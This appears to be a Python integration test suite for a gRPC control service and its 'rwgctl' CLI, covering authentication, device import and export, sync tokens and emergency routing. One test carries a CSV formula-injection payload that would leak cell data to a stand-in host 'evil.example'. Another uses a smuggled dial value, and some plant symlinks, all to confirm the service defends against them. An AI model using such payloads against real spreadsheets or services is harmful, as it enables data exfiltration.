"""Integration: rwgctl -> control (gRPC over TLS) -> a real redis-server."""
import base64
import glob
import json
import os
import re
import subprocess
import threading
import time
import unittest
import urllib.request

import rwgtest

ADMIN_PASSWORD = "it-admin-password-1"


def device_csv(count, start=0, prefix="u"):
    lines = ["set_username,set_password,icp_username,icp_password,description,mac,site,"
             "location,srtp_optional"]
    for i in range(start, start + count):
        lines.append(f"{prefix}{i},pw-{prefix}-{i}-secret,{prefix}n{i},icp-{prefix}-{i},"
                     f"\"Desk {i}, floor {i % 7}\",00:08:5d:{(i >> 16) & 255:02x}:"
                     f"{(i >> 8) & 255:02x}:{i & 255:02x},site{i % 3},FR/Paris/{i % 5},"
                     f"{'yes' if i % 10 == 0 else 'no'}")
    return "\n".join(lines) + "\n"


class ControlTest(rwgtest.TempDirTest):
    def setUp(self):
        super().setUp()
        self.certs = rwgtest.make_certs(self.tmp)
        self.data = os.path.join(self.tmp, "redis")
        os.mkdir(self.data)
        self.redis = rwgtest.Redis(self.data).start()
        self.addCleanup(self.redis.kill)
        key = os.path.join(self.tmp, "secret.key")
        self.secret_key = os.urandom(32)
        with open(key, "w") as f:
            f.write(self.secret_key.hex() + "\n")
        pw = os.path.join(self.tmp, "admin-password")
        with open(pw, "w") as f:
            f.write(ADMIN_PASSWORD + "\n")
        self.control = rwgtest.Service("control", self.tmp, [
            "--redis-address", f"127.0.0.1:{self.redis.port}", "--secret-key-file", key,
            "--admin-password-file", pw, "--tls-cert-file", self.certs["cert"],
            "--tls-key-file", self.certs["key"], "--public-name", "rwg.example.net"])
        self.control.start()
        self.addCleanup(self.control.stop)
        self.ctl = rwgtest.Rwgctl(self.control.grpc_address, self.certs["ca"],
                                  os.path.join(self.tmp, "cli"))
        rwgtest.wait_until("control SERVING",
                           lambda: self.ctl.run("health").stdout.strip() == "SERVING")

    def login(self):
        self.ctl.ok("login", password=ADMIN_PASSWORD)

    def restart_control(self):
        self.assertEqual(self.control.stop(), 0, "control must exit 0 on SIGTERM")
        self.control.start()
        self.ctl.env["RWG_SERVER"] = self.control.grpc_address
        rwgtest.wait_until("control SERVING",
                           lambda: self.ctl.run("health").stdout.strip() == "SERVING")

    def device_count(self):
        return self.ctl.json("device", "list")["total_size"]

    # -- authentication ---------------------------------------------------------------------

    def test_login_answers_json_and_says_when_it_cannot_ask(self):
        r = self.ctl.run("-o", "json", "login", password=ADMIN_PASSWORD)
        self.assertEqual(r.returncode, 0, r.stderr)
        answer = json.loads(r.stdout)
        self.assertEqual(answer["user"], "admin")
        self.assertGreater(int(answer["expires_at_unix"]), time.time())
        # No password in the environment and no terminal: the message names the prompt.
        env = {k: v for k, v in self.ctl.env.items() if k != "RWG_PASSWORD"}
        p = subprocess.run([os.path.join(rwgtest.BIN, "rwgctl"), "login"], env=env,
                           stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=30)
        self.assertEqual(p.returncode, 1)
        self.assertEqual(p.stderr.strip(), "rwgctl: no terminal for the prompt 'password': set "
                         "RWG_PASSWORD or use --password-stdin")

    def test_calls_without_valid_token_are_refused(self):
        r = self.ctl.run("device", "list")
        self.assertEqual(r.returncode, 1)
        self.assertIn("UNAUTHENTICATED", r.stderr)
        self.assertEqual(len(r.stderr.strip().splitlines()), 1, "one-line error")

        r = self.ctl.run("login", password="not-the-password")
        self.assertEqual(r.returncode, 1)
        self.assertIn("UNAUTHENTICATED: wrong username or password", r.stderr)
        r2 = self.ctl.run("login", "-u", "nobody", password=ADMIN_PASSWORD)
        self.assertEqual(r.stderr, r2.stderr, "unknown user and wrong password look alike")

        r = self.ctl.run("config", "get", env={"RWG_TOKEN": "ab" * 32})
        self.assertIn("UNAUTHENTICATED", r.stderr)

        self.login()
        self.assertEqual(self.ctl.ok("config", "get", "public_name").strip(), "rwg.example.net")
        token_file = os.path.join(self.tmp, "cli", "token")
        self.assertEqual(os.stat(token_file).st_mode & 0o777, 0o600)
        with open(token_file) as f:
            token = f.read().strip()
        self.ctl.ok("logout")
        self.assertFalse(os.path.exists(token_file))
        r = self.ctl.run("config", "get", env={"RWG_TOKEN": token})  # the old token
        self.assertIn("UNAUTHENTICATED: token expired or revoked", r.stderr)

        metrics = urllib.request.urlopen(self.control.metrics_url, timeout=5).read().decode()
        self.assertRegex(metrics, r"rwg_control_login_failures_total 2")
        self.assertRegex(metrics, r'rwg_control_rpcs_total\{code="UNAUTHENTICATED",'
                                  r'method="ListDevices"\} 1')
        self.assertRegex(metrics, r"rwg_control_redis_up 1")

    def test_plaintext_client_cannot_talk_to_tls_port(self):
        r = self.ctl.run("health", "--insecure", timeout=30)
        self.assertNotEqual(r.returncode, 0)

    def test_change_password(self):
        self.login()
        r = self.ctl.run("passwd", password="wrong-current", env={"RWG_NEW_PASSWORD": "x" * 12})
        self.assertIn("PERMISSION_DENIED", r.stderr)
        self.ctl.ok("passwd", password=ADMIN_PASSWORD, env={"RWG_NEW_PASSWORD": "new-pass-123"})
        self.assertIn("UNAUTHENTICATED", self.ctl.run("login", password=ADMIN_PASSWORD).stderr)
        self.ctl.ok("login", password="new-pass-123")

    def test_change_password_revokes_the_other_sessions(self):
        self.login()
        with open(os.path.join(self.tmp, "cli", "token")) as f:
            first = f.read().strip()
        laptop = rwgtest.Rwgctl(self.control.grpc_address, self.certs["ca"],
                                os.path.join(self.tmp, "laptop"))
        laptop.ok("login", password=ADMIN_PASSWORD)
        self.assertEqual(self.ctl.run("config", "get", "public_name",
                                      env={"RWG_TOKEN": first}).returncode, 0)

        laptop.ok("passwd", password=ADMIN_PASSWORD, env={"RWG_NEW_PASSWORD": "new-pass-123"})
        # The session that changed the password goes on; every other one is revoked.
        laptop.ok("config", "get", "public_name")
        r = self.ctl.run("config", "get", "public_name", env={"RWG_TOKEN": first})
        self.assertEqual(r.returncode, 1)
        self.assertIn("UNAUTHENTICATED: token revoked: the password changed", r.stderr)
        r = self.ctl.run("device", "list")  # the same session, from its token file
        self.assertIn("UNAUTHENTICATED", r.stderr)
        self.ctl.ok("login", password="new-pass-123")
        self.ctl.ok("config", "get", "public_name")

    def test_token_and_export_files_are_private(self):
        # A link planted where rwgctl keeps its token is replaced, never written through.
        os.makedirs(os.path.join(self.tmp, "cli"), mode=0o700)
        victim = os.path.join(self.tmp, "victim")
        with open(victim, "w") as f:
            f.write("victim\n")
        os.chmod(victim, 0o644)
        token_file = os.path.join(self.tmp, "cli", "token")
        os.symlink(victim, token_file)
        old = os.umask(0)
        try:
            self.login()
            self.ctl.ok("device", "add", "--set-username", "1001", "--set-password",
                        "desk-1001-pw", "--icp-username", "21001", "--icp-password", "icp-1001")
            export = os.path.join(self.tmp, "devices.csv")
            os.symlink(victim, export)
            self.ctl.ok("device", "export", "-f", export)
        finally:
            os.umask(old)
        for path in (token_file, export):
            self.assertFalse(os.path.islink(path), path)
            self.assertEqual(os.stat(path).st_mode & 0o777, 0o600, path)
        with open(victim) as f:
            self.assertEqual(f.read(), "victim\n")
        self.assertEqual(os.stat(victim).st_mode & 0o777, 0o644)
        with open(export) as f:
            self.assertIn('"desk-1001-pw"', f.read())
        self.assertEqual(sorted(os.listdir(os.path.join(self.tmp, "cli"))), ["token"],
                         "no temporary file left")

    # -- configuration ----------------------------------------------------------------------

    def test_config_validation_and_restart_hints(self):
        self.login()
        cfg = self.ctl.json("config", "get")
        self.assertEqual(cfg["sip"]["set_side_inbound"], "SRTP_ONLY")
        self.assertEqual(cfg["sip"]["icp_side_outbound"], "AVP_CRYPTO")
        self.assertEqual(cfg["sip"]["srtp_suite"], "AES_CM_128_HMAC_SHA1_80")

        r = self.ctl.run("config", "set", "icp.host=ipbx host", "ports.media_min=20001")
        self.assertEqual(r.returncode, 1)
        self.assertIn("INVALID_ARGUMENT", r.stderr)
        self.assertIn("icp.host: 'ipbx host' is not a host name or IP address", r.stderr)
        self.assertIn("ports.media_min: 20001 must be even", r.stderr)
        self.assertEqual(self.ctl.ok("config", "get", "icp.host").strip(), cfg["icp"]["host"],
                         "nothing of a refused change is applied")

        r = self.ctl.run("config", "set", "sip.srtp_suite=AES_256")
        self.assertIn("sip.srtp_suite: 'AES_256' is not one of", r.stderr)

        out = self.ctl.ok("config", "set", "icp.host=10.20.30.40", "ports.sip_tls=5071",
                          "sip.srtp_suite=AES_CM_128_HMAC_SHA1_32", "licences.teleworker=250")
        self.assertIn("restart needed: ports.sip_tls (sip-edge)", out)
        self.assertNotIn("icp.host", out)
        cfg = self.ctl.json("config", "get")
        self.assertEqual(cfg["icp"]["host"], "10.20.30.40")
        self.assertEqual(cfg["licences"]["teleworker"], 250)
        self.assertEqual(cfg["sip"]["srtp_suite"], "AES_CM_128_HMAC_SHA1_32")
        self.assertEqual(cfg["sip"]["set_side_inbound"], "SRTP_ONLY", "other fields untouched")

    # -- devices and persistence ------------------------------------------------------------

    def test_devices_bulk_import_and_restart_of_everything(self):
        self.login()
        out = self.ctl.ok("device", "add", "--set-username", "alice", "--set-password",
                          "alice-set-pw-1", "--icp-username", "31001", "--icp-password",
                          "alice-icp-pw", "--mac", "00-08-5D-AA-BB-01", "--site", "Paris",
                          "--location", "FR/Paris/HQ", "--description", "Alice's 6867i")
        self.assertIn("device alice created", out)
        r = self.ctl.run("device", "add", "--set-username", "alice2", "--set-password",
                         "another-pw-1", "--icp-username", "31001", "--icp-password", "x")
        self.assertIn("ALREADY_EXISTS", r.stderr)
        self.assertIn("31001 belongs to device alice", r.stderr)
        r = self.ctl.run("device", "add", "--set-username", "bob", "--set-password", "short",
                         "--icp-username", "31002", "--icp-password", "x", "--mac", "nope")
        self.assertIn("device.set_password: must be 8 to 64 characters long", r.stderr)
        self.assertIn("device.mac: 'nope' is not a MAC address", r.stderr)

        csv_path = os.path.join(self.tmp, "devices.csv")
        with open(csv_path, "w") as f:
            f.write(device_csv(1000))
        out = self.ctl.ok("device", "import", csv_path)
        self.assertIn("imported: 1000 created, 0 updated", out)
        self.assertEqual(self.device_count(), 1001)

        # A bad file is refused whole, naming every bad row and column.
        bad = device_csv(5, start=2000).splitlines()
        bad[2] = bad[2].replace(",site", ",site").replace("00:08:5d", "zz:08:5d")
        bad[4] = "u2003,short,un2003,icp,,,,,"
        bad.append("u10,pw-dup-secret,un99999,icp,,,,,")  # exists already
        with open(csv_path, "w") as f:
            f.write("\n".join(bad) + "\n")
        r = self.ctl.run("device", "import", csv_path)
        self.assertEqual(r.returncode, 1)
        self.assertIn("row 3, column mac:", r.stderr)
        self.assertIn("row 5, column set_password: must be 8 to 64", r.stderr)
        self.assertEqual(self.device_count(), 1001, "nothing of a bad file is imported")
        bad.pop(4)
        with open(csv_path, "w") as f:
            f.write("\n".join(b for i, b in enumerate(bad) if i != 2) + "\n")
        r = self.ctl.run("device", "import", csv_path)
        self.assertIn("row 5, column set_username: device already exists", r.stderr)
        self.assertEqual(self.device_count(), 1001)

        listing = self.ctl.json("device", "list", "--filter", "FR/Paris/3", "--site", "site1")
        self.assertTrue(all(d["site"] == "site1" and d["location"] == "FR/Paris/3"
                            for d in listing["devices"]))
        self.assertEqual(listing["total_size"], len(listing["devices"]))
        self.assertGreater(listing["total_size"], 0)

        exported = self.ctl.ok("device", "export")
        self.assertIn('"u999","pw-u-999-secret","un999","icp-u-999"', exported)
        self.assertEqual(len(exported.strip().splitlines()), 1002)

        # Secrets are encrypted at rest and never logged.
        raw = self.redis.cmd("HGET", "rwg:devices", "alice")
        self.assertIn(b"v1:", raw)
        self.assertNotIn(b"alice-set-pw-1", raw)
        for path in glob.glob(os.path.join(self.data, "**"), recursive=True):
            if os.path.isfile(path):
                with open(path, "rb") as f:
                    blob = f.read()
                self.assertNotIn(b"alice-set-pw-1", blob, path)
                self.assertNotIn(b"pw-u-999-secret", blob, path)
        self.ctl.ok("hash", "generate")
        before_hash = self.ctl.json("hash", "show")["key"]

        # Restart Redis (AOF) and control: everything is still there.
        self.redis.stop()
        self.redis.start()
        self.restart_control()
        self.login()
        self.assertEqual(self.device_count(), 1001)
        alice = self.ctl.json("device", "get", "alice", "--show-secrets")
        self.assertEqual(alice["set_password"], "alice-set-pw-1")
        self.assertEqual(alice["icp_password"], "alice-icp-pw")
        self.assertEqual(alice["mac"], "00085DAABB01")
        self.assertEqual(self.ctl.json("hash", "show")["key"], before_hash)
        self.assertEqual(self.ctl.ok("config", "get", "public_name").strip(), "rwg.example.net")

        log = self.control.read_log()
        for secret in ("alice-set-pw-1", "alice-icp-pw", "pw-u-999-secret", ADMIN_PASSWORD):
            self.assertNotIn(secret, log)
        self.assertRegex(log, r"level=info service=control msg=\"devices imported\"")
        self.assertIn("msg=stopped", log)

    def test_update_and_delete(self):
        self.login()
        self.ctl.ok("device", "add", "--set-username", "carol", "--generate-password",
                    "--icp-username", "41001", "--icp-password", "icp-c", "--mac", "0008.5d00.0001")
        out = self.ctl.ok("device", "update", "carol", "--description", "moved", "--site", "Lyon")
        self.assertIn("device carol updated", out)
        d = self.ctl.json("device", "get", "carol")
        self.assertEqual((d["description"], d["site"], d["mac"]), ("moved", "Lyon", "00085D000001"))
        self.assertEqual(d["set_password"], "", "secrets only on request")
        r = self.ctl.run("device", "update", "carol", "--mac", "bad")
        self.assertIn("device.mac", r.stderr)
        out = self.ctl.ok("device", "update", "carol", "--generate-password")
        new_pw = re.search(r"set-side password: (\S+)", out).group(1)
        self.assertEqual(self.ctl.json("device", "get", "carol", "--show-secrets")["set_password"],
                         new_pw)
        self.ctl.ok("device", "delete", "carol")
        self.assertIn("NOT_FOUND", self.ctl.run("device", "get", "carol").stderr)
        self.assertIn("NOT_FOUND", self.ctl.run("device", "delete", "carol").stderr)
        # The MAC and the ICP username are free again.
        self.ctl.ok("device", "add", "--set-username", "dave", "--set-password", "dave-pw-123",
                    "--icp-username", "41001", "--icp-password", "x", "--mac", "00085D000001")

    # -- sync API consumers and tokens (rwgctl sync) ---------------------------------------

    def seal(self, plaintext, context):
        """A secret sealed as core::SecretBox does (AES-256-GCM, the context as AAD)."""
        from cryptography.hazmat.primitives.ciphers.aead import AESGCM
        nonce = os.urandom(12)
        sealed = AESGCM(self.secret_key).encrypt(nonce, plaintext.encode(), context.encode())
        return "v1:" + base64.b64encode(nonce + sealed).decode()

    def unseal(self, sealed, context):
        from cryptography.hazmat.primitives.ciphers.aead import AESGCM
        raw = base64.b64decode(sealed[len("v1:"):])
        return AESGCM(self.secret_key).decrypt(raw[:12], raw[12:], context.encode()).decode()

    def request_token(self, token, consumer):
        """A temporary token as the sync service writes it (POST /oauth/request_token)."""
        now_ms = int(time.time() * 1000)
        expires_ms = now_ms + 3600 * 1000
        record = {"token": token, "secret": self.seal("ts-" + token, f"sync-token:{token}:secret"),
                  "kind": "temporary", "state": "pending", "consumer": consumer,
                  "source": "192.0.2.10", "created_ms": now_ms, "expires_ms": expires_ms,
                  "verifier_failures": 0}
        self.redis.cli("SET", f"rwg:sync:token:{token}", json.dumps(record))
        self.redis.cli("PEXPIREAT", f"rwg:sync:token:{token}", expires_ms)
        self.redis.cli("ZADD", "rwg:sync:tokens", expires_ms / 1000, token)

    def test_sync_consumers_and_tokens(self):
        self.login()
        out = self.ctl.ok("sync", "consumer", "add", "pbx1", "--id", "MiVOAppSuite",
                          "--source", "192.0.2.10", "--source", "198.51.100.0/24")
        self.assertIn("consumer id (oauth_consumer_key): MiVOAppSuite", out)
        self.assertIn("will not be shown again", out)
        secret = re.search(r"shared secret: (\S+)", out).group(1)
        self.assertEqual(len(secret), 40)
        stored = self.redis.cli("HGET", "rwg:sync:consumers", "pbx1")[0]
        self.assertNotIn(secret, stored)
        self.assertEqual(self.unseal(json.loads(stored)["secret"], "sync-consumer:pbx1:secret"),
                         secret)
        added = self.ctl.json("sync", "consumer", "add", "pbx2")
        self.assertEqual(added["consumer"]["id"], "pbx2")
        self.assertEqual(len(added["secret"]), 40)

        # The seed's limits: an id of 40 characters is fine, 41 is refused before any call.
        self.ctl.ok("sync", "consumer", "add", "forty", "--id", "M" * 40)
        r = self.ctl.run("sync", "consumer", "add", "forty-one", "--id", "M" * 41)
        self.assertEqual((r.returncode, r.stderr), (2, "rwgctl: --id: 41 characters, at most 40\n"))
        r = self.ctl.run("sync", "consumer", "add", "pbx3", "--id", "MiVOAppSuite")
        self.assertEqual(r.returncode, 1)
        self.assertIn("ALREADY_EXISTS: id: ", r.stderr)

        listing = self.ctl.ok("sync", "consumer", "list")
        self.assertIn("MiVOAppSuite", listing)
        self.assertIn("192.0.2.10,198.51.100.0/24", listing)
        self.assertNotIn(secret, listing)
        consumers = self.ctl.json("sync", "consumer", "list")["consumers"]
        self.assertEqual([c["name"] for c in consumers], ["forty", "pbx1", "pbx2"])
        self.assertNotIn(secret, json.dumps(consumers))
        self.ctl.ok("sync", "consumer", "disable", "pbx1")
        self.assertFalse(self.ctl.json("sync", "consumer", "list")["consumers"][1]["enabled"])
        self.ctl.ok("sync", "consumer", "enable", "pbx1")
        self.assertTrue(self.ctl.json("sync", "consumer", "list")["consumers"][1]["enabled"])

        # The iPBX asked for two temporary tokens; the admin approves one and rejects the other.
        self.request_token("temp1", "pbx1")
        self.request_token("temp2", "pbx1")
        tokens = self.ctl.json("sync", "token", "list")["tokens"]
        self.assertEqual(sorted((t["token"], t["state"], t["consumer"], t["source"])
                                for t in tokens),
                         [("temp1", "pending", "pbx1", "192.0.2.10"),
                          ("temp2", "pending", "pbx1", "192.0.2.10")])
        self.assertIn("temp1", self.ctl.ok("sync", "token", "list"))
        out = self.ctl.ok("sync", "token", "approve", "temp1")
        verifier = re.search(r"verifier: (\S+)", out).group(1)
        self.assertRegex(verifier, r"^[2-9A-HJKMNP-Z]{10}$")
        record = json.loads(self.redis.cli("GET", "rwg:sync:token:temp1")[0])
        self.assertEqual(record["state"], "approved")
        self.assertNotIn(verifier, json.dumps(record))
        self.assertEqual(self.unseal(record["verifier"], "sync-token:temp1:verifier"), verifier)
        r = self.ctl.run("sync", "token", "approve", "temp1")
        self.assertIn("FAILED_PRECONDITION: state: ", r.stderr)
        self.ctl.ok("sync", "token", "reject", "temp2")
        self.assertEqual(json.loads(self.redis.cli("GET", "rwg:sync:token:temp2")[0])["state"],
                         "rejected")
        self.assertIn("NOT_FOUND: token: ", self.ctl.run("sync", "token", "approve", "nope").stderr)

        # An access token (as the exchange writes it): renew, revoke.
        now_ms = int(time.time() * 1000)
        access = {"token": "acc1", "secret": self.seal("as", "sync-token:acc1:secret"),
                  "kind": "access", "state": "active", "consumer": "pbx1", "source": "192.0.2.10",
                  "created_ms": now_ms, "expires_ms": now_ms + 86400 * 1000}
        self.redis.cli("SET", "rwg:sync:token:acc1", json.dumps(access), "PXAT",
                       now_ms + 86400 * 1000)
        self.redis.cli("ZADD", "rwg:sync:tokens", now_ms / 1000 + 86400, "acc1")
        renewed = self.ctl.json("sync", "token", "renew", "acc1")
        self.assertGreater(int(renewed["expire_time_unix"]), time.time() + 364 * 86400)
        self.assertGreater(int(self.redis.cli("PTTL", "rwg:sync:token:acc1")[0]),
                           364 * 86400 * 1000)
        self.assertEqual(self.ctl.json("sync", "consumer", "list")["consumers"][1]
                         ["active_tokens"], 1)
        self.ctl.ok("sync", "token", "revoke", "acc1")
        self.assertEqual(self.ctl.json("sync", "token", "list", "--consumer", "pbx1")["tokens"][0]
                         ["state"], "revoked")

        # Reset: a new secret, every token of the consumer revoked.
        self.request_token("temp3", "pbx1")
        out = self.ctl.ok("sync", "consumer", "reset", "pbx1")
        self.assertIn("2 token(s) revoked", out)  # temp1 (approved) and temp3 (pending)
        new_secret = re.search(r"shared secret: (\S+)", out).group(1)
        self.assertNotEqual(new_secret, secret)
        states = {t["token"]: t["state"] for t in self.ctl.json("sync", "token", "list")["tokens"]}
        self.assertEqual(states, {"temp1": "revoked", "temp2": "rejected", "acc1": "revoked",
                                  "temp3": "revoked"})

        # Delete: the consumer, its id and its tokens are gone.
        self.ctl.ok("sync", "consumer", "delete", "pbx1")
        self.assertIn("NOT_FOUND", self.ctl.run("sync", "consumer", "delete", "pbx1").stderr)
        self.assertEqual(self.redis.cli("HGET", "rwg:sync:consumers:id", "MiVOAppSuite"), [])
        self.assertEqual(self.ctl.json("sync", "token", "list").get("tokens", []), [])
        self.assertEqual(self.redis.cli("KEYS", "rwg:sync:token:*"), [])

    def test_emergency_numbers_by_location(self):
        self.login()
        # Two sites, a country-wide default and a fallback for everywhere else.
        out = self.ctl.ok("emergency", "set", "FR/Paris", "112", "0145000112",
                          "--description", "Paris operations desk")
        self.assertIn("calls to 112 from FR/Paris dial 0145000112", out)
        self.ctl.ok("emergency", "set", "FR/Lyon", "112", "0472000112")
        self.ctl.ok("emergency", "set", "FR", "18", "0100000018")
        self.ctl.ok("emergency", "set", "*", "112", "+33100000112")
        routes = self.ctl.json("emergency", "list")["routes"]
        self.assertEqual([(r["location"], r["number"], r["dial"]) for r in routes],
                         [("*", "112", "+33100000112"), ("FR", "18", "0100000018"),
                          ("FR/Lyon", "112", "0472000112"), ("FR/Paris", "112", "0145000112")])
        self.assertEqual(len(self.ctl.json("emergency", "list", "--location", "FR/Lyon")["routes"]),
                         1)
        # Every change bumps the revision readers cache the table by.
        rev = lambda: int(self.redis.cmd("GET", "rwg:emergency:rev").split(b"\r\n")[1])
        self.assertEqual(rev(), 4)

        def resolve(location, number):
            r = self.ctl.json("emergency", "resolve", location, number)
            return r["route"]["dial"] if r.get("found") else None
        self.assertEqual(resolve("FR/Paris/15e", "112"), "0145000112")  # the site under Paris
        self.assertEqual(resolve("FR/Lyon", "112"), "0472000112")
        self.assertEqual(resolve("FR/Lyon", "18"), "0100000018")        # the country's route
        self.assertEqual(resolve("DE/Berlin", "112"), "+33100000112")  # the fallback
        self.assertIsNone(resolve("DE/Berlin", "18"))
        self.assertIn("no emergency route for 18 from DE/Berlin",
                      self.ctl.ok("emergency", "resolve", "DE/Berlin", "18"))
        # Setting again replaces; bad input is refused naming every field, nothing stored.
        self.ctl.ok("emergency", "set", "FR/Lyon", "112", "0472999112")
        self.assertEqual(resolve("FR/Lyon", "112"), "0472999112")
        r = self.ctl.run("emergency", "set", "FR//Lyon", "11a2", "12-34")
        self.assertEqual(r.returncode, 1)
        for field in ("location", "number", "dial"):
            self.assertIn(f"{field}:", r.stderr)
        self.assertTrue(r.stderr.startswith("rwgctl: INVALID_ARGUMENT"), r.stderr)
        self.assertEqual(len(self.ctl.json("emergency", "list")["routes"]), 4)
        self.assertEqual(rev(), 5, "a refused route changes nothing")
        # Delete, and delete again.
        self.ctl.ok("emergency", "delete", "FR/Paris", "112")
        self.assertEqual(rev(), 6)
        self.assertEqual(resolve("FR/Paris/15e", "112"), "+33100000112")
        self.assertIn("NOT_FOUND", self.ctl.run("emergency", "delete", "FR/Paris", "112").stderr)
        self.assertEqual(rev(), 6, "deleting nothing changes nothing")
        # Records damaged in Redis: each is set apart with its error; the others keep working.
        self.redis.cmd("HSET", "rwg:emergency", "FR/Nice\n112", "{bad")
        self.redis.cmd("HSET", "rwg:emergency", "FR/Nice\n17", json.dumps(
            {"location": "FR/Nice", "number": "17", "dial": "17;x=1@evil"}))
        self.redis.cmd("HSET", "rwg:emergency", "FR/Nice\n18", json.dumps(
            {"location": "FR/Lille", "number": "18", "dial": "18"}))
        self.redis.cmd("HSET", "rwg:emergency", b"FR/\xffNice\n15", json.dumps({"dial": 15}))
        listed = self.ctl.json("emergency", "list")
        self.assertEqual(len(listed["routes"]), 3)
        self.assertEqual([(d["location"], d["number"], d["error"]) for d in listed["damaged"]], [
            ("FR/Nice", "112", "the record is not a JSON object"),
            ("FR/Nice", "17", "dial: '17;x=1@evil' is not 1 to 32 digits, * or # (+ first only)"),
            ("FR/Nice", "18", "location: the record does not match its key"),
            ("FR/\ufffdNice", "15", "a field of the record is not a string")])
        self.assertEqual(resolve("FR/Nice", "112"), "+33100000112")  # the fallback
        self.assertEqual(resolve("FR/Nice", "18"), "0100000018")
        self.assertIn("damaged, not used for calls", self.ctl.ok("emergency", "list"))
        self.ctl.ok("emergency", "delete", "FR/Nice", "17")
        self.assertEqual(len(self.ctl.json("emergency", "list")["damaged"]), 3)
        # The table survives a restart of control (it lives in Redis).
        self.restart_control()
        self.login()
        self.assertEqual(resolve("FR/Lyon", "112"), "0472999112")

    def test_export_neutralises_formulas_and_import_restores_them(self):
        self.login()
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
        self.ctl.ok("device", "add", "--set-username", "1001", "--set-password=-desk-1001-pw",
                    "--icp-username", "21001", "--icp-password=@icp-1001", "--description", formula, "--site", "+33 Paris", "--location", "FR/Paris")
        exported = self.ctl.ok("device", "export")
        row = exported.splitlines()[1]
        self.assertEqual(row, '"1001","\'-desk-1001-pw","21001","\'@icp-1001",'
                              '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",'
                              '"","\'+33 Paris","FR/Paris","false"')
        # No cell a spreadsheet would run: every data cell starts with a letter, digit or '.
        for cell in re.findall(r'(?:^|,)"([^"]?)', row):
            self.assertNotIn(cell, ("=", "+", "-", "@", "\t", "\r"), row)

        # Imported back, the device is what it was.
        before = self.ctl.json("device", "get", "1001", "--show-secrets")
        self.ctl.ok("device", "delete", "1001")
        path = os.path.join(self.tmp, "export.csv")
        with open(path, "w") as f:
            f.write(exported)
        self.assertIn("1 created", self.ctl.ok("device", "import", path))
        after = self.ctl.json("device", "get", "1001", "--show-secrets")
        for field in ("set_password", "icp_password", "description", "site", "location"):
            self.assertEqual(after[field], before[field], field)
        self.assertEqual(after["description"], formula)
        self.assertEqual(after["set_password"], "-desk-1001-pw")
        self.assertIn("1 updated", self.ctl.ok("device", "import", "--replace", path))
        self.assertEqual(self.ctl.json("device", "get", "1001")["description"], formula)

    def test_invalid_utf8_is_refused_naming_row_and_column(self):
        self.login()
        path = os.path.join(self.tmp, "bad.csv")
        with open(path, "wb") as f:
            f.write(b"set_username,set_password,icp_username,icp_password,description,site\n"
                    b"1001,desk-1001-pw,21001,icp-1001,Reception,Paris\n"
                    b"1002,desk-1002-pw,21002,icp-1002,Desk \xc0\xaf,Paris\n"      # overlong
                    b"1003,desk-1003-pw,21003,icp-1003,Desk,Lyon \xed\xa0\x80\n")  # surrogate
        r = self.ctl.run("device", "import", path)
        self.assertEqual(r.returncode, 1)
        self.assertIn("INVALID_ARGUMENT", r.stderr)
        self.assertIn("row 3, column description: is not valid UTF-8", r.stderr)
        self.assertIn("row 4, column site: is not valid UTF-8", r.stderr)
        self.assertEqual(self.device_count(), 0, "nothing of a refused file is stored")
        self.assertEqual(self.redis.cmd("HLEN", "rwg:devices"), b":0\r\n")
        self.ctl.ok("device", "list")

    def test_damaged_records_answer_data_loss_and_control_keeps_running(self):
        self.login()
        # A damaged emergency route record (a number where a string belongs) is reported as
        # such, apart from the usable ones: reading records never throws (services/core/json.h).
        self.redis.cmd("HSET", "rwg:emergency", "FR\n112", '{"location": 5, "number": "112"}')
        listed = self.ctl.json("emergency", "list")
        self.assertEqual(listed.get("routes", []), [])
        self.assertEqual(listed["damaged"], [{"location": "FR", "number": "112",
                                              "error": "a field of the record is not a string"}])
        # A damaged hash key record is reported as such.
        self.redis.cmd("SET", "rwg:hash", "[1]")
        self.assertIn("DATA_LOSS: the stored hash key (rwg:hash) is damaged",
                      self.ctl.run("hash", "show").stderr)
        self.assertTrue(self.control.alive())
        self.ctl.ok("config", "get")
        metrics = urllib.request.urlopen(self.control.metrics_url, timeout=5).read().decode()
        self.assertIn('rwg_control_rpcs_total{code="DATA_LOSS",method="GetHashKey"} 1', metrics)

    def test_sso_mode_generates_set_side_passwords(self):
        self.login()
        self.ctl.ok("config", "set", "sso_mode=true")
        r = self.ctl.run("device", "add", "--set-username", "erin", "--set-password",
                         "typed-password", "--icp-username", "51001", "--icp-password", "x")
        self.assertIn("must be empty in SSO mode", r.stderr)
        out = self.ctl.ok("device", "add", "--set-username", "erin", "--icp-username", "51001",
                          "--icp-password", "x")
        self.assertRegex(out, r"set-side password: \S{16}")
        csv_path = os.path.join(self.tmp, "sso.csv")
        with open(csv_path, "w") as f:
            f.write("set_username,icp_username,icp_password\nfrank,51002,x\n")
        self.ctl.ok("device", "import", csv_path)
        self.assertEqual(len(self.ctl.json("device", "get", "frank", "--show-secrets")
                             ["set_password"]), 16)

    # -- hash key ---------------------------------------------------------------------------

    def test_hash_key_lifecycle(self):
        self.login()
        r = self.ctl.run("hash", "show")
        self.assertIn("NOT_FOUND: no hash key yet", r.stderr)
        h = self.ctl.json("hash", "generate")
        self.assertRegex(h["key"], r"^[0-9a-f]{32}$")
        self.assertEqual(h["download_path"], f"https://rwg.example.net:4445/{h['key']}/ftp_67xxi")
        self.assertIn("ALREADY_EXISTS", self.ctl.run("hash", "generate").stderr)

        r = self.ctl.run("hash", "regenerate")
        self.assertIn("FAILED_PRECONDITION: confirm: must be set", r.stderr)
        self.assertIn("every phone deployed with the previous key", r.stderr)
        r = self.ctl.run("hash", "regenerate", "--confirm", password="wrong-password")
        self.assertIn("PERMISSION_DENIED", r.stderr)
        self.assertEqual(self.ctl.json("hash", "show")["key"], h["key"])
        r = self.ctl.run("hash", "regenerate", "--confirm", password=ADMIN_PASSWORD)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("WARNING: every phone deployed", r.stderr)
        h2 = self.ctl.json("hash", "show")
        self.assertNotEqual(h2["key"], h["key"])

        self.assertIn("key: must be 32 hex digits",
                      self.ctl.run("hash", "import", "xyz", "--confirm",
                                   password=ADMIN_PASSWORD).stderr)
        self.assertIn("FAILED_PRECONDITION",
                      self.ctl.run("hash", "import", "A" * 32).stderr)
        self.ctl.ok("hash", "import", "0123456789ABCDEF0123456789abcdef", "--confirm",
                    password=ADMIN_PASSWORD)
        self.assertEqual(self.ctl.json("hash", "show")["key"], "0123456789abcdef0123456789abcdef")
